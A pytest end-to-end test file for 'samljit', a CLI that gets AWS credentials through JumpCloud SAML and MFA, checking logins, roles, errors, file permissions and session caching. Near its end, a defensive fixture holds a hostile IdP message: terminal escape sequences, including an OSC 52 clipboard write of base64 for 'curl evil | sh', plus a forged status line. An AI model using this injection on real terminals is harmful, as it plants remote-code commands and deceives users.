"""configure → login (JumpCloud + MFA) → role → STS → credentials → exec, through the
installed executable, against the JumpCloud emulator and moto's STS on loopback."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from tests.emulators.common import totp_now
from tests.emulators.jumpcloud import (
    BAD_CREDENTIALS_MESSAGE,
    INVALID_OTP_MESSAGE,
    NO_ACCESS_MESSAGE,
    XSRF_MESSAGE,
    App,
    JumpCloudEmulator,
)
from tests.support.accounts import (
    ACCOUNT_ID,
    DEV_ARN,
    EMAIL,
    FULL_ARN,
    PASSWORD,
    PROVIDER_ARN,
    READONLY_IN_US_EAST_2,
    RO_ARN,
    SLUG,
    TOTP_SECRET,
    account_config,
    fresh_code,
    grants,
    log_in_once,
    make_user,
)
from tests.support.cli import Cli
from tests.support.moto_sts import StsView

PRINT_ENV = (
    "import json, os; print(json.dumps({k: v for k, v in os.environ.items() "
    "if k.startswith(('AWS_', 'SAMLJIT_'))}))"
)


def code(cli: Cli) -> str:
    return fresh_code(cli)


def auth_calls(emulator: JumpCloudEmulator) -> int:
    return emulator.count("POST", "/userconsole/auth")


def test_configure_login_exec_end_to_end(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    text = cli.configure(
        "production",
        "--provider",
        "jumpcloud",
        "--url",
        jumpcloud.sso_url(SLUG),
        "--api-url",
        jumpcloud.api_url,
        "--username",
        EMAIL,
        "--mfa",
        "totp",
        *READONLY_IN_US_EAST_2,
    )
    assert "provider = JumpCloud" in text and "mfa = TOTP" in text
    assert PASSWORD not in text

    login = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert login.returncode == 0, login.stderr
    assert "Logged in: AcmeJumpCloudAdminRO in 012345678987" in login.stderr
    assert login.stdout == ""
    values = cli.profile("production")
    assert set(values) == {
        "aws_access_key_id",
        "aws_secret_access_key",
        "aws_session_token",
        "aws_security_token",
        "x_security_token_expires",
        "x_principal_arn",
        "region",
    }
    assert values["x_principal_arn"].startswith(
        f"arn:aws:sts::{ACCOUNT_ID}:assumed-role/AcmeJumpCloudAdminRO/"
    )
    assert values["x_security_token_expires"].endswith("Z")
    assert values["region"] == "us-east-2"
    assert stat.S_IMODE(cli.credentials.stat().st_mode) == 0o600

    ran = cli.run("exec", "-a", "production", "--", sys.executable, "-c", PRINT_ENV, record=False)
    assert ran.returncode == 0, ran.stderr
    child = json.loads(ran.stdout)
    assert child["AWS_ACCESS_KEY_ID"] == values["aws_access_key_id"]
    assert child["AWS_SESSION_TOKEN"] == values["aws_session_token"]
    assert child["AWS_SECURITY_TOKEN"] == values["aws_session_token"]
    assert child["AWS_CREDENTIAL_EXPIRATION"] == values["x_security_token_expires"]
    assert child["AWS_REGION"] == child["AWS_DEFAULT_REGION"] == "us-east-2"
    assert child["SAMLJIT_IDP_ACCOUNT"] == "production"
    assert child["SAMLJIT_ROLE_ARN"] == RO_ARN
    assert "SAMLJIT_PASSWORD" not in child
    cli.outputs.append(ran.stderr)


def test_valid_profile_is_reused_without_contacting_anyone(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    log_in_once(cli, jumpcloud)
    before = len(jumpcloud.requests)
    again = cli.run("login", "-a", "production")
    assert again.returncode == 0, again.stderr
    assert "already holds valid credentials" in again.stderr
    assert len(jumpcloud.requests) == before
    forced = cli.run("login", "-a", "production", "--force", "--mfa-token", code(cli))
    assert forced.returncode == 0, forced.stderr
    assert auth_calls(jumpcloud) > 0 and len(jumpcloud.requests) > before


def test_role_full_is_a_new_grant_from_the_same_assertion(
    cli: Cli, jumpcloud: JumpCloudEmulator, sts: StsView
) -> None:
    log_in_once(cli, jumpcloud)
    assert "/AcmeJumpCloudAdminRO/" in cli.principal("production")
    calls, requests = len(sts.calls), len(jumpcloud.requests)
    full = cli.run("login", "-a", "production", "--role", "full")
    assert full.returncode == 0, full.stderr
    assert len(jumpcloud.requests) == requests  # the cached assertion: no IdP, no MFA
    assert [c.role_arn for c in sts.calls[calls:]] == [FULL_ARN]
    assert "/AcmeJumpCloudAdmin/" in cli.principal("production")
    assert "Logged in: AcmeJumpCloudAdmin in acme-production (012345678987)" in full.stderr
    forced = cli.run("login", "-a", "production", "--role", "full", "--force")
    assert forced.returncode == 0, forced.stderr  # --force: the IdP again, on its session
    assert jumpcloud.requests[requests:] == [("GET", f"/saml2/{SLUG}")]


def test_role_by_account_name_and_role_name(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud, role=None))
    ran = cli.run(
        "login",
        "-a",
        "production",
        "--role",
        "acme-dev/AcmeJumpCloudAdminRO",
        "--mfa-token",
        code(cli),
    )
    assert ran.returncode == 0, ran.stderr
    assert ":111122223333:assumed-role/AcmeJumpCloudAdminRO/" in cli.principal("production")


def test_ambiguous_role_name_is_refused_listing_matches(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.write_config(account_config(jumpcloud, role="AcmeJumpCloudAdminRO"))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 4
    assert "ambiguous" in ran.stderr and RO_ARN in ran.stderr and DEV_ARN in ran.stderr
    assert not cli.credentials.exists()


def test_role_not_in_assertion_is_exit_4(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud, role="arn:aws:iam::999999999999:role/Nope"))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 4
    assert "not in the assertion" in ran.stderr and FULL_ARN in ran.stderr


def several_roles_no_choice(
    cli: Cli, jumpcloud: JumpCloudEmulator, command: str
) -> subprocess.CompletedProcess[str]:
    """``samljit COMMAND`` with no terminal for an account that names no role, of a user the
    assertion grants three: exit 4, naming them all."""
    cli.write_config(account_config(jumpcloud, role=None))
    ran = cli.run(command, "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 4, ran.stderr
    assert all(arn in ran.stderr for arn in (RO_ARN, FULL_ARN, DEV_ARN))
    return ran


def test_several_roles_and_no_terminal_is_exit_4_with_choices(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    ran = several_roles_no_choice(cli, jumpcloud, "login")
    first = ran.stderr.splitlines()[0]
    assert first.startswith("samljit: error: 3 roles to choose from, but there is no terminal")
    for arn in (RO_ARN, FULL_ARN, DEV_ARN):
        assert arn in first
    assert not cli.credentials.exists()
    skip = cli.run("login", "-a", "production", "--skip-prompt", "--mfa-token", code(cli))
    assert skip.returncode == 4 and "--skip-prompt" in skip.stderr


def test_wrong_password_shows_jumpclouds_words(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", env={"SAMLJIT_PASSWORD": "not-the-password-1"})
    assert ran.returncode == 3
    assert BAD_CREDENTIALS_MESSAGE in ran.stderr
    assert ran.stderr.startswith("samljit: error: ")
    assert auth_calls(jumpcloud) == 1  # never resubmitted on its own
    assert not cli.credentials.exists()


def test_wrong_totp_code(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    wrong = "000000" if totp_now(TOTP_SECRET) != "000000" else "111111"
    ran = cli.run("login", "-a", "production", "--mfa-token", wrong)
    assert ran.returncode == 3
    assert INVALID_OTP_MESSAGE in ran.stderr
    assert not cli.credentials.exists()


def test_mfa_code_from_environment(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud, mfa="Auto"))
    ran = cli.run("login", "-a", "production", env={"SAMLJIT_MFA_TOKEN": code(cli)})
    assert ran.returncode == 0, ran.stderr


def test_mfa_needed_without_terminal_fails_at_once(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", timeout=20)
    assert ran.returncode == 2
    assert "one-time MFA code is needed, but there is no terminal" in ran.stderr
    assert "--mfa-token" in ran.stderr


def test_push_approved(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud, mfa="PUSH"))
    ran = cli.run("login", "-a", "production")
    assert ran.returncode == 0, ran.stderr
    assert "push sent" in ran.stderr
    assert jumpcloud.count("POST", "/userconsole/auth/push") == 1
    assert "/AcmeJumpCloudAdminRO/" in cli.principal("production")


def test_push_denied(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    """JumpCloud answers the poll of a denied push with HTTP 401 and ``{"status": "denied"}``:
    its body is read first, so the user reads that the push was denied, not that the password
    was wrong."""
    jumpcloud.add_user(make_user(push="deny"))
    cli.write_config(account_config(jumpcloud, mfa="PUSH"))
    ran = cli.run("login", "-a", "production")
    assert ran.returncode == 3
    errors = [line for line in ran.stderr.splitlines() if line.startswith("samljit: error: ")]
    assert errors == ["samljit: error: JumpCloud Protect push was denied on the phone"]
    assert "password" not in ran.stderr
    assert not cli.credentials.exists()


def test_push_expired_at_the_idp(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    jumpcloud.add_user(make_user(push="expire", push_expires_in=1.0))
    cli.write_config(account_config(jumpcloud, mfa="PUSH"))
    ran = cli.run("login", "-a", "production")
    assert ran.returncode == 3
    assert "expired" in ran.stderr
    assert not cli.credentials.exists()


def test_push_gives_up_at_expires_at_on_the_local_clock(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    jumpcloud.add_user(make_user(push="never", push_expires_in=1.0))
    cli.write_config(account_config(jumpcloud, mfa="PUSH"))
    ran = cli.run("login", "-a", "production", timeout=30)
    assert ran.returncode == 3
    assert "expired without an answer" in ran.stderr


def test_ctrl_c_while_push_waits_is_clean(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    jumpcloud.add_user(make_user(push="never", push_expires_in=120.0))
    cli.write_config(account_config(jumpcloud, mfa="PUSH"))
    process = cli.popen("login", "-a", "production")
    _, err = cli.interrupt_at(process, "push sent")
    cli.interrupted(process.returncode, err)


def test_auto_with_several_factors_and_no_terminal_takes_the_code(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.write_config(account_config(jumpcloud, mfa="Auto"))
    without = cli.run("login", "-a", "production")
    assert without.returncode == 2
    assert "several second factors" in without.stderr
    with_code = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert with_code.returncode == 0, with_code.stderr


def test_mfa_type_not_offered(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    jumpcloud.add_user(make_user(push=None))
    cli.write_config(account_config(jumpcloud, mfa="PUSH"))
    ran = cli.run("login", "-a", "production")
    assert ran.returncode == 2
    assert "mfa is set to 'PUSH', but the IdP offers: TOTP" in ran.stderr


def test_idp_server_error_after_retries_is_exit_6(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    jumpcloud.fail_next("/userconsole/auth", 503, count=10)
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 6
    assert "HTTP 503" in ran.stderr and "attempts" in ran.stderr


def test_idp_transient_error_is_retried(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    jumpcloud.fail_next("/userconsole/xsrf", 502, count=1)
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 0, ran.stderr


def test_a_stale_xsrf_token_is_fetched_again_once(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    """JumpCloud answers 403 to a token it no longer takes: a new one, the call once more."""
    cli.write_config(account_config(jumpcloud))
    jumpcloud.fail_next("/userconsole/auth", 403, body={"message": XSRF_MESSAGE})
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 0, ran.stderr
    assert jumpcloud.count("GET", "/userconsole/xsrf") == 2
    assert auth_calls(jumpcloud) == 3  # refused, again (MFA asked), with the code


def test_an_xsrf_token_refused_twice_is_not_tried_a_third_time(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.write_config(account_config(jumpcloud))
    jumpcloud.fail_next("/userconsole/auth", 403, count=3, body={"message": XSRF_MESSAGE})
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 3, ran.stderr
    assert f"JumpCloud answered HTTP 403: {XSRF_MESSAGE}" in ran.stderr
    assert auth_calls(jumpcloud) == 2
    assert not cli.credentials.exists()


def test_unreachable_idp_is_exit_6(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    text = account_config(jumpcloud).replace(jumpcloud.api_url, "http://127.0.0.1:9")
    cli.write_config(text)
    ran = cli.run("login", "-a", "production", "--mfa-token", "123456")
    assert ran.returncode == 6
    assert "cannot reach 127.0.0.1:9 (connection refused)" in ran.stderr


def test_app_not_assigned_says_what_the_page_said(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    jumpcloud.add_user(make_user(apps={}))
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 3
    assert "holds no SAMLResponse" in ran.stderr and NO_ACCESS_MESSAGE in ran.stderr


def test_an_encrypted_assertion_needs_principal_arn(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    """An assertion encrypted for AWS cannot name the role's SAML provider to samljit: without
    principal_arn the login stops, naming the key (tests/e2e/test_encrypted.py has the rest)."""
    jumpcloud.add_user(make_user(apps={SLUG: App(roles=[], encrypted=True)}))
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 2, ran.stderr
    assert "principal_arn" in ran.stderr.splitlines()[0]
    assert not cli.credentials.exists()


def test_no_role_attribute_says_what_to_map(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    jumpcloud.add_user(make_user(apps={SLUG: App(roles=[])}))
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 4
    assert "https://aws.amazon.com/SAML/Attributes/Role" in ran.stderr
    assert "map the attribute" in ran.stderr


def test_corrupt_config_is_exit_2_and_untouched(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    broken = account_config(jumpcloud) + "[unterminated\nkey = = =\n"
    cli.write_config(broken)
    ran = cli.run("login", "-a", "production")
    assert ran.returncode == 2
    assert ran.stderr.startswith("samljit: error: config file")
    assert cli.config.read_text() == broken
    again = cli.run("configure", "-a", "production", "--skip-prompt", "--region", "eu-west-1")
    assert again.returncode == 2
    assert cli.config.read_text() == broken


def test_unknown_account_is_exit_2(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "staging")
    assert ran.returncode == 2
    assert "no IdP account 'staging'" in ran.stderr and "samljit configure -a staging" in ran.stderr


def test_plain_http_to_a_remote_host_is_refused(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud).replace("http://127.0.0.1", "http://sso.example"))
    ran = cli.run("login", "-a", "production")
    assert ran.returncode == 2
    assert "plain http://" in ran.stderr


CREDENTIALS_BEFORE = """\
# my credentials — hand-edited, keep this comment
[default]
aws_access_key_id = AKIDEFAULTEXAMPLE
aws_secret_access_key = defaultsecretdefaultsecret

; a comment about production
[production]
aws_access_key_id = OLDKEY
# old comment inside production
aws_secret_access_key = oldsecret

# notes about staging
[staging]
aws_access_key_id   =   AKISTAGINGEXAMPLE
region=eu-west-1
"""


def test_other_profiles_and_comments_are_byte_for_byte_unchanged(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.credentials.parent.mkdir(mode=0o700)
    cli.credentials.write_text(CREDENTIALS_BEFORE)
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 0, ran.stderr
    after = cli.credentials.read_text()
    head = CREDENTIALS_BEFORE.split("[production]")[0]
    tail = CREDENTIALS_BEFORE[CREDENTIALS_BEFORE.index("# notes about staging") :]
    assert after.startswith(head + "[production]\n")
    assert after.endswith(tail)
    assert "OLDKEY" not in after and "old comment" not in after
    assert cli.profile("staging")["region"] == "eu-west-1"


def test_symlinked_credentials_file_keeps_its_link(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    real = cli.home / "dotfiles" / "aws-credentials"
    real.parent.mkdir()
    real.write_text("[default]\nregion = us-east-1\n")
    cli.credentials.parent.mkdir()
    cli.credentials.symlink_to(real)
    log_in_once(cli, jumpcloud)
    assert cli.credentials.is_symlink()
    assert "[production]" in real.read_text() and "[default]" in real.read_text()


def test_ten_concurrent_logins_to_ten_profiles(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    # ten users: JumpCloud takes each one-time code once per user
    sections = [
        account_config(jumpcloud, name=f"p{i}")
        .replace("# samljit accounts (edited by hand)\n", "")
        .replace(f"username = {EMAIL}", f"username = p{i}@acme.example")
        for i in range(10)
    ]
    for i in range(10):
        jumpcloud.add_user(make_user(email=f"p{i}@acme.example"))
    cli.write_config("".join(sections))
    token = code(cli)

    def one(i: int) -> int:
        return cli.run("login", "-a", f"p{i}", "--mfa-token", token).returncode

    with ThreadPoolExecutor(max_workers=10) as pool:
        codes = list(pool.map(one, range(10)))
    assert codes == [0] * 10
    profiles = cli.profiles()
    assert sorted(profiles) == sorted(f"p{i}" for i in range(10))
    for i in range(10):
        assert profiles[f"p{i}"]["x_principal_arn"]


def exec_python(cli: Cli, source: str, **options: Any) -> subprocess.CompletedProcess[str]:
    """``samljit exec -a production`` (with a fresh code) running Python's ``source``."""
    return cli.run(
        "exec",
        "-a",
        "production",
        "--mfa-token",
        code(cli),
        "--",
        sys.executable,
        "-c",
        source,
        **options,
    )


def test_exec_passes_the_childs_exit_status(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = exec_python(cli, "raise SystemExit(7)")
    assert ran.returncode == 7, ran.stderr
    missing = cli.run("exec", "-a", "production", "--", "no-such-command-samljit")
    assert missing.returncode == 127
    assert "command not found: no-such-command-samljit" in missing.stderr
    empty = cli.run("exec", "-a", "production")
    assert empty.returncode == 2 and "exec needs a command" in empty.stderr


def test_exec_of_a_file_that_is_not_executable(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    script = cli.home / "tool.sh"
    script.write_text("#!/bin/sh\necho ran\n")
    script.chmod(0o644)  # no execute bit: not even root may run it
    ran = cli.run("exec", "-a", "production", "--mfa-token", code(cli), "--", str(script))
    assert ran.returncode == 126, ran.stderr
    assert f"samljit: error: command is not executable: {script}" in ran.stderr.splitlines()
    assert "ran" not in ran.stdout


def test_exec_removes_other_profiles_from_the_child(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = exec_python(
        cli, PRINT_ENV, env={"AWS_PROFILE": "other", "AWS_DEFAULT_PROFILE": "other"}, record=False
    )
    assert ran.returncode == 0, ran.stderr
    child = json.loads(ran.stdout)
    assert "AWS_PROFILE" not in child and "AWS_DEFAULT_PROFILE" not in child


def test_list_roles(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("list-roles", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 0, ran.stderr
    lines = ran.stdout.splitlines()
    assert lines == [
        f"{ACCOUNT_ID}  acme-production  AcmeJumpCloudAdminRO  {RO_ARN}",
        f"{ACCOUNT_ID}  acme-production  AcmeJumpCloudAdmin  {FULL_ARN}",
        f"111122223333  acme-dev  AcmeJumpCloudAdminRO  {DEV_ARN}",
    ]
    before = len(jumpcloud.requests)
    as_json = cli.run("list-roles", "-a", "production", "--json")
    assert len(jumpcloud.requests) == before  # the cached assertion answers
    data = json.loads(as_json.stdout)
    assert [d["role_arn"] for d in data] == [RO_ARN, FULL_ARN, DEV_ARN]
    assert data[0]["account_name"] == "acme-production"
    assert not cli.credentials.exists()


def test_unknown_account_names_show_a_dash(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    text = account_config(jumpcloud).split("  [[accounts]]")[0]
    cli.write_config(text)
    ran = cli.run("list-roles", "-a", "production", "--mfa-token", code(cli))
    assert ran.stdout.splitlines()[0] == f"{ACCOUNT_ID}  -  AcmeJumpCloudAdminRO  {RO_ARN}"


def test_debug_log_is_redacted(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("--debug", "login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 0, ran.stderr
    assert "samljit: debug: JumpCloud password: POST" in ran.stderr
    assert "<redacted>" in ran.stderr
    # the fixture's leak check scans this output for the password, code, assertion and tokens


def test_global_options_after_the_command(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    other = cli.home / "elsewhere.ini"
    other.write_text(account_config(jumpcloud, name="work"))
    ran = cli.run("login", "--config", str(other), "-a", "work", "-q", "--mfa-token", code(cli))
    assert ran.returncode == 0, ran.stderr
    assert ran.stderr == ""
    env_run = cli.run("login", env={"SAMLJIT_CONFIG": str(other), "SAMLJIT_IDP_ACCOUNT": "work"})
    assert env_run.returncode == 0 and "already holds valid credentials" in env_run.stderr


def test_credentials_file_from_environment(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    target = cli.home / "creds" / "file"
    cli.write_config(account_config(jumpcloud))
    ran = cli.run(
        "login",
        "-a",
        "production",
        "--mfa-token",
        code(cli),
        env={"AWS_SHARED_CREDENTIALS_FILE": str(target)},
    )
    assert ran.returncode == 0, ran.stderr
    assert "[production]" in target.read_text()
    assert not cli.credentials.exists()
    assert oct(os.stat(target).st_mode & 0o777) == "0o600"


def test_corrupt_credentials_file_is_left_alone(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.credentials.parent.mkdir()
    broken = "aws_access_key_id = before-any-section\n[default]\n"
    cli.credentials.write_text(broken)
    cli.write_config(account_config(jumpcloud))
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 2
    assert str(cli.credentials) in ran.stderr
    assert cli.credentials.read_text() == broken


def test_usage_errors(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    ran = cli.run("login", "--session-duration", "12")
    assert ran.returncode == 2
    assert ran.stderr.startswith("samljit: error: argument --session-duration")
    assert cli.run("frobnicate").returncode == 2
    version = cli.run("--version")
    assert version.returncode == 0 and version.stdout.startswith("samljit ")


def test_home_has_no_stray_files(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    log_in_once(cli, jumpcloud)
    files = sorted(p for p in cli.home.rglob("*") if p.is_file())
    places = sorted({str(p.relative_to(cli.home).parent) for p in files})
    assert places == [
        ".",
        ".aws",
        ".cache/samljit/assertions",
        ".cache/samljit/credentials",
        ".cache/samljit/locks",
        ".cache/samljit/sessions",
        ".local/state/samljit",
    ], places
    for path in files:
        if path != cli.config:  # the test wrote that one itself
            assert oct(path.stat().st_mode & 0o777) == "0o600", path
    for directory in (
        ".cache/samljit",
        ".cache/samljit/credentials",
        ".cache/samljit/sessions",
        ".local/state/samljit",
    ):
        assert oct((cli.home / directory).stat().st_mode & 0o777) == "0o700", directory
    assert Path(cli.credentials).read_text().count("[production]") == 1


# -- the IdP's own session ----------------------------------------------------------------
NO_PASSWORD = {"SAMLJIT_PASSWORD": None}


def session_files(cli: Cli) -> list[Path]:
    return sorted((cli.home / ".cache" / "samljit" / "sessions").glob("*.json"))


def test_a_forced_login_an_hour_later_asks_for_nothing(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.write_config(account_config(jumpcloud))
    first = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert first.returncode == 0, first.stderr
    first_requests = jumpcloud.requests
    assert auth_calls(jumpcloud) == 2  # password, then the TOTP code
    assert len(first_requests) == 4, first_requests  # xsrf, auth, auth + code, SSO page
    [kept] = session_files(cli)
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert stat.S_IMODE(kept.parent.stat().st_mode) == 0o700
    assert "jcsso_session" not in cli.config.read_text()

    again = cli.run(
        "login", "-a", "production", "--role", "full", "--force", "--skip-prompt", env=NO_PASSWORD
    )
    assert again.returncode == 0, again.stderr
    assert "Logged in: AcmeJumpCloudAdmin in" in again.stderr
    assert jumpcloud.requests[len(first_requests) :] == [("GET", f"/saml2/{SLUG}")]
    assert cli.principal("production").startswith(
        f"arn:aws:sts::{ACCOUNT_ID}:assumed-role/AcmeJumpCloudAdmin/"
    )


def test_a_session_jumpcloud_ended_falls_back_to_the_login_silently(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    log_in_once(cli, jumpcloud)
    before = len(jumpcloud.requests)
    jumpcloud.end_sessions()
    again = cli.run("login", "-a", "production", "--force", "--mfa-token", code(cli))
    assert again.returncode == 0, again.stderr
    assert "error" not in again.stderr.lower() and "warning" not in again.stderr.lower()
    assert jumpcloud.requests[before:] == [
        ("GET", f"/saml2/{SLUG}"),  # the kept session: JumpCloud sends to its login page
        ("GET", "/login"),
        ("GET", "/userconsole/xsrf"),
        ("POST", "/userconsole/auth"),
        ("POST", "/userconsole/auth"),
        ("GET", f"/saml2/{SLUG}"),
    ]
    after = len(jumpcloud.requests)  # the new session is kept in place of the old one
    assert cli.run("login", "-a", "production", "--force", env=NO_PASSWORD).returncode == 0
    assert jumpcloud.requests[after:] == [("GET", f"/saml2/{SLUG}")]


def test_an_ended_session_and_no_password_is_the_usual_error(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    log_in_once(cli, jumpcloud)
    jumpcloud.end_sessions()
    ran = cli.run("login", "-a", "production", "--force", "--skip-prompt", env=NO_PASSWORD)
    assert ran.returncode == 2, ran.stderr
    assert "password" in ran.stderr.lower()
    assert session_files(cli) == [], "the ended session was kept"


def test_status_shows_the_session_and_logout_forgets_it(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.write_config(account_config(jumpcloud))
    none = cli.run("status", "--json")
    assert json.loads(none.stdout)[0]["idp_session"] is False
    assert cli.run("login", "-a", "production", "--mfa-token", code(cli)).returncode == 0
    text = cli.run("status")
    assert "production  IdP session held" in text.stdout, text.stdout
    [row] = json.loads(cli.run("status", "--json").stdout)
    assert row["idp_session"] is True
    # a session cookie: held for session_max_age (12 h) from the login, no longer
    until = datetime.fromisoformat(row["idp_session_expires"].replace("Z", "+00:00"))
    left = until - datetime.now(timezone.utc)
    assert timedelta(hours=11) < left <= timedelta(hours=12), row

    out = cli.run("logout", "-a", "production")
    assert out.returncode == 0 and "IdP session forgotten" in out.stderr
    assert session_files(cli) == []
    [row] = json.loads(cli.run("status", "--json").stdout)
    assert row["idp_session"] is False
    assert "IdP session" not in cli.run("status").stdout
    requests = len(jumpcloud.requests)
    ran = cli.run("login", "-a", "production", "--skip-prompt", env=NO_PASSWORD)
    assert ran.returncode == 2 and "password" in ran.stderr.lower()
    assert jumpcloud.requests[requests:] == [], "logout left the session in use"


def test_disable_sessions_asks_every_time(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    log_in_once(cli, jumpcloud)
    assert len(session_files(cli)) == 1
    cli.write_config(account_config(jumpcloud, extra="disable_sessions = true\n"))
    again = cli.run("login", "-a", "production", "--force", "--mfa-token", code(cli))
    assert again.returncode == 0, again.stderr
    assert auth_calls(jumpcloud) == 4, "the session was used although disabled"
    assert session_files(cli) == [], "the kept session was not forgotten"
    [row] = json.loads(cli.run("status", "--json").stdout)
    assert row["idp_session"] is False
    bad = account_config(jumpcloud, extra="disable_sessions = maybe\n")
    cli.write_config(bad)
    ran = cli.run("login", "-a", "production", "--force")
    assert ran.returncode == 2
    assert "disable_sessions of account 'production' must be true or false" in ran.stderr


def test_debug_never_shows_the_session_cookie(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    cli.write_config(account_config(jumpcloud))
    first = cli.run("--debug", "login", "-a", "production", "--mfa-token", code(cli))
    assert first.returncode == 0, first.stderr
    again = cli.run("--debug", "login", "-a", "production", "--force", env=NO_PASSWORD)
    assert again.returncode == 0, again.stderr
    assert "JumpCloud SSO page" in again.stderr
    [cookie] = jumpcloud.issued_cookies
    for output in (first.stderr, again.stderr):
        assert cookie not in output
    # and the leak check (cli's teardown) looks for it in every output and file under HOME


def test_a_corrupt_or_foreign_session_file_is_dropped(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    log_in_once(cli, jumpcloud)
    [kept] = session_files(cli)
    kept.write_text("{not json")
    ran = cli.run("login", "-a", "production", "--force", "--mfa-token", code(cli))
    assert ran.returncode == 0 and "error" not in ran.stderr.lower(), ran.stderr
    assert auth_calls(jumpcloud) == 4  # the corrupt entry was ignored: a full login
    [kept] = session_files(cli)
    os.chmod(kept, 0o644)  # loosened: no longer trusted
    ran = cli.run("login", "-a", "production", "--force", "--skip-prompt", env=NO_PASSWORD)
    assert ran.returncode == 2 and "password" in ran.stderr.lower()
    assert session_files(cli) == []


# -- text from the network ------------------------------------------------------------------
#: What a hostile IdP puts in a message: retitle the terminal, erase the line, write the
#: clipboard (OSC 52), then forge a line of samljit's own.
HOSTILE = (
    "Bad password\x1b]0;pwned\x07\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    "\r\nLogged in: AcmeJumpCloudAdmin in acme-production"
)


def test_control_characters_from_the_idp_never_reach_the_terminal_or_the_audit_log(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    cli.write_config(account_config(jumpcloud))
    jumpcloud.fail_next("/userconsole/auth", 401, body={"message": HOSTILE})
    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
    assert ran.returncode == 3, ran.stderr
